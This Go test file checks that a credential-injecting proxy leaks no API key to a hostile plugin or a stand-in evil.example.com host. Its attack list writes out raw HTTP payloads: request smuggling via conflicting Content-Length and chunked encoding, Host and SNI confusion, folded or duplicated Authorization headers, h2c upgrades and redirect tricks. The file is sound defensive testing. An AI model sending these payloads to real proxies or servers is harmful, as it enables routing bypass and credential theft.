package proxy_test

import (
	"encoding/base64"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/miekg/dns"

	"github.com/chaperone-proxy/chaperone/authz"
	"github.com/chaperone-proxy/chaperone/proxy"
)

// talkative is an API that returns everything that it received, in every place of an
// answer, and asks for more.
func talkative(t testing.TB, evil string) *httptest.Server {
	t.Helper()
	api := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		_, _ = io.Copy(io.Discard, r.Body)
		key := r.Header.Get("Authorization")
		h := w.Header()
		h.Set("Link", key)
		w.WriteHeader(http.StatusEarlyHints)
		h.Del("Link")
		for _, name := range []string{"X-Debug", "Www-Authenticate", "Set-Cookie", "Server-Timing", "Etag", "Warning", "Authentication-Info"} {
			h.Set(name, "x "+key)
		}
		h.Set("X-Encoded", base64.StdEncoding.EncodeToString([]byte("user:"+key)))
		h.Set("Content-Type", "text/html")
		h.Set("Trailer", "X-Trailer")
		h.Set("Location", evil+"/?"+key)
		status := http.StatusOK
		if r.URL.Path == "/redirect" {
			status = http.StatusTemporaryRedirect
		}
		w.WriteHeader(status)
		fmt.Fprintf(w, "<p>%s %s %v %v", r.Method, r.RequestURI, r.Header, r.Trailer)
		_ = http.NewResponseController(w).Flush()
		for i := range len(key) {
			_, _ = io.WriteString(w, key[i:i+1])
			_ = http.NewResponseController(w).Flush()
		}
		h.Set("X-Trailer", key)
	}))
	api.EnableHTTP2 = true
	api.StartTLS()
	t.Cleanup(api.Close)
	return api
}

// attack is a hostile plugin's request inside TLS. G and E stand for the authorities of
// the host that has a credential and of the one that has none.
type attack struct {
	name    string
	to, sni string // of the connection: "good" or "evil"
	text    string
}

// attacks are those that succeeded against comparable products, or may have.
var attacks = []attack{
	{"the good host's name inside a tunnel to the evil one", "evil", "evil", "GET / HTTP/1.1\r\nHost: G\r\n\r\n"},
	{"the evil host's name inside a tunnel to the good one", "good", "good", "GET / HTTP/1.1\r\nHost: E\r\n\r\n"},
	{"the good server name in a tunnel to the evil host", "evil", "good", "GET / HTTP/1.1\r\nHost: G\r\n\r\n"},
	{"the evil server name in a tunnel to the good host", "good", "evil", "GET / HTTP/1.1\r\nHost: G\r\n\r\n"},
	{"an absolute URI elsewhere than its tunnel", "good", "good", "GET https://E/ HTTP/1.1\r\nHost: G\r\n\r\n"},
	{"an absolute URI that comes back", "evil", "evil", "GET https://G/ HTTP/1.1\r\nHost: E\r\n\r\n"},
	{"two hosts", "evil", "evil", "GET / HTTP/1.1\r\nHost: E\r\nHost: G\r\n\r\n"},
	{"user information", "evil", "evil", "GET / HTTP/1.1\r\nHost: example.com@E\r\n\r\n"},
	{"the good host at the evil one's port", "good", "good", "GET / HTTP/1.1\r\nHost: example.com:EPORT\r\n\r\n"},
	{"X-Forwarded-Host", "evil", "evil", "GET / HTTP/1.1\r\nHost: E\r\nX-Forwarded-Host: G\r\nForwarded: host=G\r\n\r\n"},
	{"Connection that lists Authorization", "good", "good", "GET / HTTP/1.1\r\nHost: G\r\nConnection: Authorization, close\r\nAuthorization: mine\r\n\r\n"},
	{"Authorization twice and misspelled", "good", "good", "GET / HTTP/1.1\r\nHost: G\r\nAuthorization: Bearer mine\r\nauthorization: x\r\nAUTHORIZATION_: y\r\n\r\n"},
	{"Authorization with a space before its colon", "good", "good", "GET / HTTP/1.1\r\nHost: G\r\nAuthorization : Bearer mine\r\n\r\n"},
	{"a request inside another's length and chunks", "good", "good", "POST / HTTP/1.1\r\nHost: G\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET / HTTP/1.1\r\nHost: E\r\n\r\n"},
	{"a hidden transfer coding", "good", "good", "POST / HTTP/1.1\r\nHost: G\r\nTransfer-Encoding: \x0bchunked\r\nContent-Length: 30\r\n\r\n0\r\n\r\nGET / HTTP/1.1\r\nHost: E\r\n\r\n"},
	{"two lengths", "good", "good", "POST / HTTP/1.1\r\nHost: G\r\nContent-Length: 0\r\nContent-Length: 30\r\n\r\nGET / HTTP/1.1\r\nHost: E\r\n\r\n"},
	{"a folded header", "good", "good", "GET / HTTP/1.1\r\nHost: G\r\nX-A: b\r\n Authorization: mine\r\n\r\n"},
	{"a line feed in a header", "good", "good", "GET / HTTP/1.1\r\nHost: G\r\nX-A: b\nHost: E\r\n\r\n"},
	{"a second request for the other host", "good", "good", "GET / HTTP/1.1\r\nHost: G\r\n\r\nGET / HTTP/1.1\r\nHost: E\r\n\r\n"},
	{"a request after 100-continue", "good", "good", "POST / HTTP/1.1\r\nHost: G\r\nExpect: 100-continue\r\nContent-Length: 2\r\n\r\nokGET / HTTP/1.1\r\nHost: E\r\n\r\n"},
	{"a request trailer Authorization", "good", "good", "POST / HTTP/1.1\r\nHost: G\r\nTrailer: Authorization\r\nTransfer-Encoding: chunked\r\n\r\n1\r\nx\r\n0\r\nAuthorization: mine\r\n\r\n"},
	{"TRACE", "good", "good", "TRACE / HTTP/1.1\r\nHost: G\r\n\r\n"},
	{"an echo in every place of an answer", "good", "good", "GET / HTTP/1.1\r\nHost: G\r\nTE: trailers\r\n\r\n"},
	{"an echo of a compressed kind", "good", "good", "GET / HTTP/1.1\r\nHost: G\r\nAccept-Encoding: gzip\r\naccept_encoding: br\r\n\r\n"},
	{"h2c", "good", "good", "GET / HTTP/1.1\r\nHost: G\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n\r\n"},
	{"an upgrade that is not granted", "good", "good", "GET / HTTP/1.1\r\nHost: G\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Protocol: mine\r\n\r\n"},
	{"a redirect to the evil host, followed", "good", "good", "GET /redirect HTTP/1.1\r\nHost: G\r\n\r\n"},
	{"a path that is another", "good", "good", "GET /v1/../redirect HTTP/1.1\r\nHost: G\r\n\r\n"},
	{"CONNECT inside", "good", "good", "CONNECT E HTTP/1.1\r\nHost: E\r\n\r\nGET / HTTP/1.1\r\nHost: G\r\n\r\n"},
	{"a token for the evil host in its own Authorization", "evil", "evil", "GET / HTTP/1.1\r\nHost: E\r\nAuthorization: Bearer {api_key}\r\n\r\n"},
}

// TestAttacks is a hostile plugin. Its requests, through a tunnel or redirected, get it
// no byte of the credential. The other host, to which it may send anything, receives
// none either.
func TestAttacks(t *testing.T) {
	evil := newWitness(t)
	evilRule := ruleFor(evil.Server)
	evilRule.ID, evilRule.To.Hosts, evilRule.Credential = "evil", []string{"evil.example.com"}, ""
	evilRule.To.TLS.CA = testServerCA(evil.Server)
	evilAuthority := fmt.Sprintf("evil.example.com:%d", evilRule.To.Ports[0])
	good := talkative(t, "https://"+evilAuthority)
	goodRule := ruleFor(good)
	goodAuthority := fmt.Sprintf("example.com:%d", goodRule.To.Ports[0])
	var original atomicAddr
	original.store(netip.AddrPort{})
	names := map[string]string{"good": "example.com", "evil": "evil.example.com"}
	w := newWorld(t, setup{input: granted(goodRule, evilRule), config: func(c *proxy.Config) {
		redirect(original.load)(c)
		c.Upstream.Hosts["evil.example.com"] = []netip.Addr{loopback}
	}})
	ports := map[string]uint16{"good": goodRule.To.Ports[0], "evil": evilRule.To.Ports[0]}
	spell := strings.NewReplacer("EPORT", fmt.Sprint(ports["evil"]), " G", " "+goodAuthority, "//G", "//"+goodAuthority, "=G", "="+goodAuthority,
		" E\r", " "+evilAuthority+"\r", " E ", " "+evilAuthority+" ", "//E", "//"+evilAuthority, "@E", "@"+evilAuthority)

	ways := map[string]func(string) *rawConn{
		"CONNECT": func(to string) *rawConn {
			original.store(w.addr)
			return w.tunnel(fmt.Sprintf("%s:%d", names[to], ports[to]))
		},
		"redirected": func(to string) *rawConn {
			answer := w.ask(names[to], dns.TypeA)
			address := netip.MustParseAddr(answer.Answer[0].(*dns.A).A.String())
			original.store(netip.AddrPortFrom(address, ports[to]))
			return w.raw()
		},
		"redirected by address": func(to string) *rawConn {
			original.store(netip.AddrPortFrom(netip.MustParseAddr("127.0.0.9"), ports[to]))
			return w.raw()
		},
	}
	for way, open := range ways {
		for _, a := range attacks {
			t.Run(way+": "+a.name, func(t *testing.T) {
				evil.take()
				c := open(a.to).tls(names[a.sni])
				_ = c.Conn.SetDeadline(time.Now().Add(20 * time.Second))
				_, _ = io.WriteString(c.Conn, spell.Replace(strings.ReplaceAll(a.text, "\r\n\r\n", "\r\nConnection: close\r\n\r\n")))
				got, _ := io.ReadAll(c.in)
				seen := evil.take()
				wantSafe(t, string(got), seen)
				switch { // those that pass show that the others could have
				case strings.Contains(a.name, "every place") && strings.Count(string(got), "****") < 9:
					t.Errorf("the answer is %s", got)
				case strings.Contains(a.name, "its own Authorization") && seen == "":
					t.Errorf("the evil host received nothing: %s", got)
				}
			})
		}
	}
	t.Run("the forward proxy, without TLS", func(t *testing.T) {
		original.store(w.addr)
		for _, a := range attacks {
			c := w.raw()
			_ = c.Conn.SetDeadline(time.Now().Add(20 * time.Second))
			text := strings.Replace(a.text, " / ", " http://"+goodAuthority+"/ ", 1)
			_, _ = io.WriteString(c.Conn, spell.Replace(strings.ReplaceAll(text, "\r\n\r\n", "\r\nConnection: close\r\n\r\n")))
			got, _ := io.ReadAll(c.in)
			wantSafe(t, string(got), evil.take())
		}
	})
	t.Run("HTTP/2", func(t *testing.T) {
		original.store(w.addr)
		client := w.client(withHTTP2)
		for _, path := range []string{"/", "/redirect", "/?" + evilAuthority} {
			for _, host := range []string{"", goodAuthority, evilAuthority, "evil.example.com"} {
				for _, to := range []string{goodAuthority, evilAuthority} {
					r := request(t, "POST", "https://"+to+path, "body")
					r.Host = host
					r.Header = http.Header{"Authorization": {"Bearer mine"}, "X-Forwarded-Host": {goodAuthority}, "Cookie": {"a=1"}}
					response, body := send(t, client, r)
					wantSafe(t, fmt.Sprint(response.Header, body, response.Trailer), evil.take())
				}
			}
		}
	})
	w.settled()
	if echoes := w.echoed(); len(echoes) < len(ways) || slices.ContainsFunc(echoes, func(r authz.Record) bool { return strings.Contains(r.Detail, apiKey) }) {
		t.Errorf("%d echoes were recorded", len(echoes))
	}
}

// wantSafe checks that neither the plugin nor the other host holds the credential, in any
// spelling.
func wantSafe(t *testing.T, plugin, evil string) {
	t.Helper()
	for _, text := range []string{apiKey, apiKey[:10], apiKey[4:], base64.StdEncoding.EncodeToString([]byte("user:Bearer " + apiKey))[20:30]} {
		if strings.Contains(plugin, text) {
			t.Errorf("the plugin holds the credential: %s", plugin)
		}
		if strings.Contains(evil, text) {
			t.Errorf("the evil host holds the credential: %s", evil)
		}
	}
}

// TestConnectionsAreNotShared sends requests of two rules with two credentials
// to one upstream, which may have authenticated the connection.
func TestConnectionsAreNotShared(t *testing.T) {
	api := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { w.Header().Set("X-Remote", r.RemoteAddr) }))
	api.EnableHTTP2 = true
	api.StartTLS()
	defer api.Close()
	first, second, open := ruleFor(api), ruleFor(api), ruleFor(api)
	first.Paths = []string{"/first"}
	second.ID, second.Paths = "second", []string{"/second"}
	open.ID, open.Paths, open.Credential = "open", []string{"/open"}, ""
	w := newWorld(t, setup{input: granted(first, second, open)})
	for _, change := range []func(*http.Transport){nil, withHTTP2} {
		client := w.client(change)
		remotes := make(map[string]string)
		for _, path := range []string{"/first", "/second", "/open", "/first", "/second", "/open"} {
			response, _ := send(t, client, request(t, "GET", urlOf(api, path), ""))
			if other := remotes[response.Header.Get("X-Remote")]; response.StatusCode != 200 || other != "" && other != path {
				t.Errorf("%s came on the connection of %s: %s", path, other, response.Status)
			}
			remotes[response.Header.Get("X-Remote")] = path
		}
		if len(remotes) != 3 {
			t.Errorf("%d connections were made", len(remotes))
		}
	}
}
